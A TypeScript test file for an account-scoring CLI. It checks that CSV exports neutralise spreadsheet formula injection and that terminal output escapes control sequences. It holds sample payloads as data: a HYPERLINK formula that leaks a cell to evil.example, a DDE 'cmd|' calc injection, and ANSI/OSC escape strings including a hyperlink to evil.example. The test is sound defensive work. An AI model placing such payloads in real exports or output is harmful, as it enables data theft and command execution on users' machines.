/**
 * Record text is data wherever the CLI writes it: a spreadsheet never runs an account name
 * as a formula, and a terminal never obeys an escape sequence hidden in a name or a promise.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { cli, scratchCopy, withoutProgress } from '../support/cli';

const FORMULA_NAMES: Record<string, string> = {
    '001000000000001AAA': '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    '001000000000002AAA': "@SUM(1+1)*cmd|' /C calc'!A0",
    '001000000000003AAA': '+1+2',
    '001000000000004AAA': '-2+3'
};

/** Clear the screen, retitle the window, hide text, forge a line, reverse a name. */
const ESC_NAME = 'Evil\x1b[2J\x1b]0;pwned\x07Corp\r\nFAKE LINE\u202eevil\u009b31m';
const PROMISE = 'Fix\x1b[8m hidden\x1b[0m SSO';

function writeAccounts(dir: string, names: Record<string, string>): void {
    const quote = (v: string): string => `"${v.replace(/"/g, '""')}"`;
    const rows = Object.entries(names).map(([id, name]) => `${id},${quote(name)}`);
    writeFileSync(path.join(dir, 'Account.csv'), `Id,Name\n${rows.join('\n')}\n`);
}

/** Nothing a terminal would act on: no ESC, no other C0/C1 control but line feeds, no bidi override. */
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('record text in CSV output', () => {
    it('writes formula-like account names as text and keeps computed numbers numeric', () => {
        const scratch = scratchCopy();
        try {
            writeAccounts(scratch.dir, FORMULA_NAMES);
            const out = path.join(scratch.dir, 'scores.csv');
            const args = ['score', '--from', scratch.dir, '--as-of', '2026-06-30', '--format', 'csv'];
            const run = cli([...args, '--out', out]);
            expect(run.stderr).toBe(`wrote 4 accounts to ${out}\n`);
            expect(run.status).toBe(0);
            const text = readFileSync(out, 'utf8');
            const rows = parse(text) as string[][];
            const [header, ...body] = rows;
            const nameAt = (header ?? []).indexOf('AccountName');
            const impactAt = (header ?? []).indexOf('TopDriverImpact');
            expect(body).toHaveLength(4);
            for (const row of body) {
                const id = row[0] as string;
                // Read back, each name is the record's name behind a single quote: shown, not run.
                expect(row[nameAt]).toBe(`'${FORMULA_NAMES[id]}`);
            }
            // The raw cell starts with a quote character inside a quoted field, never with = + - @.
            for (const line of text.trimEnd().split('\n').slice(1))
                expect(line.split(',')[1]).toMatch(/^"'[=+\-@]/);
            // A real negative impact stays a plain number a spreadsheet can add up.
            const impacts = body.map((r) => r[impactAt] as string).filter((v) => v !== '');
            expect(impacts.some((v) => v.startsWith('-'))).toBe(true);
            for (const v of impacts) expect(v).toMatch(/^-?\d+(\.\d+)?$/);
        } finally {
            scratch.cleanup();
        }
    });
});

describe('record text printed to a terminal', () => {
    let scratch: { dir: string; cleanup: () => void };
    beforeAll(() => {
        scratch = scratchCopy();
        writeAccounts(scratch.dir, {
            '001000000000001AAA': 'Northwind Traders',
            '001000000000002AAA': ESC_NAME,
            '001000000000003AAA': 'Initech',
            '001000000000004AAA': 'Empty Shell Co'
        });
        const promises = path.join(scratch.dir, 'Trust_Commitment__c.csv');
        const text = readFileSync(promises, 'utf8');
        const next = text.replace('SSO integration', `"${PROMISE}"`);
        if (next === text) throw new Error('test edit did not apply to Trust_Commitment__c.csv');
        writeFileSync(promises, next);
    });
    afterAll(() => scratch.cleanup());

    it('shows escapes in the table as visible text on the line of the account', () => {
        const run = cli(['score', '--from', scratch.dir, '--as-of', '2026-06-30', '--format', 'table']);
        expect(run.status).toBe(0);
        expect(run.stdout).not.toMatch(UNSAFE);
        expect(run.stdout).not.toMatch(/^FAKE LINE/m);
        const line = run.stdout.split('\n').find((l) => l.includes('001000000000002AAA')) ?? '';
        // Names are cut to the column's width; what is shown of this one is escaped.
        expect(line.startsWith('Evil\\x1b[2J\\x1b]0;pwned\\x07Corp\\x')).toBe(true);
    });

    it('shows escapes in explain, in the name and in a promise description', () => {
        const run = cli(['explain', '001000000000002AAA', '--from', scratch.dir, '--as-of', '2026-06-30']);
        expect(withoutProgress(run.stderr)).toBe('');
        expect(run.status).toBe(0);
        expect(run.stdout).not.toMatch(UNSAFE);
        expect(run.stdout).toContain(
            'Trust receipt for Evil\\x1b[2J\\x1b]0;pwned\\x07Corp\\x0d\\x0aFAKE LINE\\u202eevil\\x9b31m (001000000000002AAA)'
        );
        expect(run.stdout).toContain('"Fix\\x1b[8m hidden\\x1b[0m SSO"');
    });

    it('keeps the record text exact in JSON, where a program reads it', () => {
        const run = cli(['score', '--from', scratch.dir, '--as-of', '2026-06-30', '--format', 'json']);
        expect(run.status).toBe(0);
        const json = JSON.parse(run.stdout) as { accounts: { accountId: string; accountName: string }[] };
        expect(json.accounts.find((a) => a.accountId === '001000000000002AAA')?.accountName).toBe(ESC_NAME);
    });

    it('shows escapes in an error message that quotes a cell', () => {
        const bad = scratchCopy();
        try {
            const id = '001\x1b]8;;http://evil.example\x07x';
            writeFileSync(path.join(bad.dir, 'Account.csv'), `Id,Name\n"${id}",A\n"${id}",B\n`);
            const run = cli(['score', '--from', bad.dir, '--as-of', '2026-06-30', '--format', 'json']);
            expect(run.status).toBe(2);
            expect(run.stderr).not.toMatch(UNSAFE);
            expect(run.stderr).toContain('duplicate Id 001\\x1b]8;;http://evil.example\\x07x');
        } finally {
            bad.cleanup();
        }
    });
});
